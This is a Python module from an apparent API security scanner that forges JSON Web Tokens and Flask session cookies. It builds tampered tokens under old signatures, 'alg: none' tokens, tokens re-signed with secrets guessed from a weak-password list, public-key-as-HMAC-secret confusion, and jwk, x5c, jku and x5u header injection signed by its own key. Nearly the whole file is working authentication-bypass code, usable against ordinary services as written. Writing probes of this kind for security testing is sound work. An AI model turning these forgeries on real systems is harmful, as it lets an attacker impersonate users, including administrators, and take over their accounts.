"""Makes bad tokens out of good ones, and good ones where the key is known. Written by hand: no library would sign these."""

import base64
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from functools import lru_cache
from importlib import resources
from itertools import chain
from typing import Any, Final, cast

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from stopper.core.secret import Secret
from stopper.core.tokens.flask_cookie import signing_word
from stopper.scan.tokens.forge_keys import own_certificate, own_jwk, own_rsa_key, public_forms
from stopper.scan.tokens.own_words import spellings
from stopper.scan.tokens.secret_phrases import phrases

_HASHES: Final[dict[str, Callable[[], hashes.HashAlgorithm]]] = {
    "256": hashes.SHA256,
    "384": hashes.SHA384,
    "512": hashes.SHA512,
}
_CURVES: Final[dict[str, Callable[[], ec.EllipticCurve]]] = {
    "ES256": ec.SECP256R1,
    "ES384": ec.SECP384R1,
    "ES512": ec.SECP521R1,
}
_SUFFIXES: Final = (
    "",
    "1",
    "123",
    "1234",
    "!",
    "-key",
    "_key",
    "-secret",
    "_secret",
    "-2024",
    "-2025",
    "2024",
    "2025",
    "2026",
)


def encode(part: bytes) -> str:
    """base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(part).rstrip(b"=").decode("ascii")


def read_part(part: str) -> dict[str, object]:
    """One JSON part of a compact JWS, or an empty dict when it is none."""
    try:
        found: object = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (ValueError, RecursionError):
        return {}
    return cast("dict[str, object]", found) if isinstance(found, dict) else {}


def sign_hmac(header: Mapping[str, object], claims: Mapping[str, object], secret: bytes) -> str:
    """A compact JWS under the HMAC algorithm that *header* names (HS256 when it names none)."""
    bits = str(header.get("alg", "HS256"))[2:]
    text = _signing_input(header, claims)
    digest = hmac.new(secret, text.encode("ascii"), f"sha{bits if bits in _HASHES else '256'}").digest()
    return f"{text}.{encode(digest)}"


class TokenForge:
    """The forge that probes get. A claim given as None is taken out of the token. *own* are words by which the API calls itself."""

    def __init__(self, own: Iterable[str] = ()) -> None:
        self._own = tuple(own)

    def tampered(self, token: str, **claims: object) -> str:
        """The token with changed claims and its old signature; with no claims given the payload changes without a meaning."""
        header, _, signature = _parts(token)
        body = _changed(self.claims(token), claims or {"stopper": "changed"})
        return f"{header}.{encode(_json(body))}.{signature}"

    def foreign(self, token: str, **claims: object) -> str:
        """The token (with changed claims) signed by a key that nobody trusts, under the same ``alg`` family."""
        return _sign_foreign(self.header(token) or {"alg": "HS256", "typ": "JWT"}, _changed(self.claims(token), claims))

    def unsigned(self, token: str, spelling: str = "none", **claims: object) -> str:
        """The token under ``alg`` *spelling* with an empty signature."""
        header = {**self.header(token), "alg": spelling}
        header.pop("kid", None)
        return _signing_input(header, _changed(self.claims(token), claims)) + "."

    def signed(self, token: str, secret: Secret, **claims: object) -> str:
        """The token with changed claims, signed anew by HMAC with *secret*; the ``alg`` becomes HS256 where it was no HMAC."""
        header = self.header(token)
        if str(header.get("alg", "")) not in ("HS256", "HS384", "HS512"):
            header = {**header, "alg": "HS256"}
        return sign_hmac(header, _changed(self.claims(token), claims), secret.reveal_bytes())

    def headed(self, token: str, secret: bytes, header: Mapping[str, object], **claims: object) -> str:
        """The token under HMAC with *secret* (also an empty one) and with changed header members."""
        kept = self.header(token)
        if str(kept.get("alg", "")) not in ("HS256", "HS384", "HS512"):
            kept = {**kept, "alg": "HS256"}
        return sign_hmac(_changed(kept, header), _changed(self.claims(token), claims), secret)

    def stripped(self, token: str) -> str:
        """The token as it was issued, with an empty signature."""
        return token.rpartition(".")[0] + "."

    def own_key(self, token: str, member: str, url: str = "", claims: Mapping[str, object] | None = None) -> str:
        """The token signed by a key of the forge that the header brings along: ``jwk`` or ``x5c`` in it, ``jku`` or ``x5u`` at *url*."""
        kid = secrets.token_hex(4)
        brought: dict[str, object] = {
            "jwk": own_jwk(kid),
            "x5c": [own_certificate()],
            "jku": f"{url}/jwks.json",
            "x5u": f"{url}/key.pem",
        }
        header = {"typ": self.header(token).get("typ", "JWT"), "alg": "RS256", "kid": kid, member: brought[member]}
        text = _signing_input(header, _changed(self.claims(token), claims or {}))
        return f"{text}.{encode(own_rsa_key().sign(text.encode('ascii'), padding.PKCS1v15(), hashes.SHA256()))}"

    def public_forms(self, text: str) -> tuple[bytes, ...]:
        """Every public key in *text* as the bytes that a careless server may use as an HMAC secret."""
        return public_forms(text)

    def garbage(self) -> str:
        """A well-formed token that no server has issued, signed by an unknown key; it names somebody in every usual claim."""
        now = int(time.time())
        claims = {
            "sub": "1",
            **dict.fromkeys(("id", "user_id", "uid", "identity"), 1),
            **dict.fromkeys(("username", "user", "name", "preferred_username"), "admin"),
            "email": "admin@example.com",
            "role": "user",
            "iat": now,
            "nbf": now,
            "exp": now + 900,
            "jti": secrets.token_hex(8),
            "type": "access",
            "fresh": False,
        }
        return sign_hmac({"alg": "HS256", "typ": "JWT"}, claims, secrets.token_bytes(32))

    def header(self, token: str) -> dict[str, object]:
        """The token's header; empty when it is not a compact JWS."""
        return read_part(token.split(".")[0]) if is_token(token) else {}

    def claims(self, token: str) -> dict[str, object]:
        """The token's claims, unverified; empty when it is not a compact JWS."""
        return read_part(token.split(".")[1]) if is_token(token) else {}

    def guess(self, token: str) -> Secret | None:
        """The HMAC secret of *token*, when the word list has it (in a few usual spellings)."""
        algorithm = str(self.header(token).get("alg", ""))
        if algorithm not in ("HS256", "HS384", "HS512"):
            return None
        text, _, signature = token.rpartition(".")
        make, signed = getattr(hashlib, f"sha{algorithm[2:]}"), text.encode("ascii")
        for word in chain(guesses(), spellings(self._own)):
            if hmac.compare_digest(encode(hmac.new(word.encode(), signed, make).digest()), signature):
                return Secret(word)
        return None

    def signs(self, token: str, secret: Secret) -> bool:
        """That *secret* makes the signature of *token*."""
        algorithm = str(self.header(token).get("alg", ""))
        if algorithm not in ("HS256", "HS384", "HS512"):
            return False
        text, _, signature = token.rpartition(".")
        made = hmac.new(secret.reveal().encode(), text.encode("ascii"), f"sha{algorithm[2:]}").digest()
        return hmac.compare_digest(encode(made), signature)

    def guess_cookie(self, cookie: str) -> Secret | None:
        """The key that signed a Flask session cookie, when the word list has it (in a few usual spellings)."""
        word = signing_word(chain(guesses(), spellings(self._own)), cookie)
        return None if word is None else Secret(word)


def is_token(text: str) -> bool:
    """Whether *text* has the shape of a compact JWS with a JSON header."""
    return text.isascii() and text.count(".") == 2 and bool(read_part(text.split(".")[0]))


@lru_cache(maxsize=1)
def words() -> tuple[str, ...]:
    """The bundled list of common weak secrets."""
    text = resources.files("stopper.scan.tokens").joinpath("forge_words.txt").read_text(encoding="utf-8")
    return tuple(line for line in text.splitlines() if line and not line.startswith("#"))


def guesses() -> Iterator[str]:
    """Every word of the list as it is, then its usual spellings: letter case, a year or number behind it; then phrases."""
    yield ""
    yield from words()
    known = set(words())
    for word in words():
        for cased in (word, word.capitalize(), word.upper()):
            for suffix in _SUFFIXES:
                spelled = cased + suffix
                if spelled not in known:
                    known.add(spelled)
                    yield spelled
    yield from (phrase for phrase in dict.fromkeys(phrases()) if phrase and phrase not in known)


def _sign_foreign(header: dict[str, object], claims: Mapping[str, object]) -> str:
    algorithm = str(header.get("alg", "HS256"))
    text = _signing_input(header, claims)
    data = text.encode("ascii")
    if algorithm in _CURVES:
        return f"{text}.{encode(_sign_curve(algorithm, data))}"
    if algorithm in ("EdDSA", "Ed25519"):
        return f"{text}.{encode(_ed25519_key().sign(data))}"
    if algorithm[:2] in ("RS", "PS") and algorithm[2:] in _HASHES:
        digest = _HASHES[algorithm[2:]]()
        pad = padding.PKCS1v15() if algorithm[0] == "R" else padding.PSS(padding.MGF1(digest), digest.digest_size)
        return f"{text}.{encode(own_rsa_key().sign(data, pad, digest))}"
    return sign_hmac(header, claims, secrets.token_bytes(32))


def _sign_curve(algorithm: str, data: bytes) -> bytes:
    key = ec.generate_private_key(_CURVES[algorithm]())
    r, s = decode_dss_signature(key.sign(data, ec.ECDSA(_HASHES[algorithm[2:]]())))
    size = (key.curve.key_size + 7) // 8
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


@lru_cache(maxsize=1)
def _ed25519_key() -> ed25519.Ed25519PrivateKey:
    return ed25519.Ed25519PrivateKey.generate()


def _parts(token: str) -> tuple[str, str, str]:
    first, _, rest = token.partition(".")
    second, _, third = rest.partition(".")
    return first, second, third


def _changed(claims: Mapping[str, object], changes: Mapping[str, object]) -> dict[str, object]:
    return {name: value for name, value in {**claims, **changes}.items() if value is not None or name not in changes}


def _signing_input(header: Mapping[str, object], claims: Mapping[str, object]) -> str:
    return f"{encode(_json(header))}.{encode(_json(claims))}"


def _json(value: Mapping[str, Any]) -> bytes:
    return json.dumps(value, separators=(",", ":"), default=str).encode()
